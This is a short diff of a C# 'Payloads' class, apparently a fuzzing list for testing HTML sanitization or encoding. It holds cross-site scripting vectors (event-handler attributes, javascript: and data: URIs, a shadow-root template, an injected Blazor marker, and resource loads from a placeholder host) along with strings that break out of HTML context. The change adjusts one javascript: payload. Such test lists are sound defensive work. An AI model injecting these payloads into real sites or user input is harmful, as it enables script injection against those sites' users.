@@ -16,7 +16,7 @@ internal static class Payloads
         "<link rel=stylesheet href=//elsewhere.invalid/x.css>", "<base href=//elsewhere.invalid/>", $"<meta http-equiv=refresh content='0;url=javascript:{Run}'>",
         $"<object data='javascript:{Run}'></object>", "<embed src=//elsewhere.invalid/x.swf>", $"<form action='javascript:{Run}'><button autofocus>", $"<video><source onerror={Run}></video>",
         $"<template shadowrootmode=open><img src=x onerror={Run}></template>", $"<x onpointerenter={Run} style='position:fixed;inset:0'>", $"\" onmouseover={Run} autofocus onfocus={Run} x=\"",
-        $"javascript:{Run}//", $"data:text/html,<script>parent.{Run}</script>", "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"x\"}-->",
+        $"javascript:{Run}//\"", $"data:text/html,<script>parent.{Run}</script>", "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"x\"}-->",
     ];
 
     private static readonly string[] Exits = ["", "\">", "'>", "</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</pre></span>"];
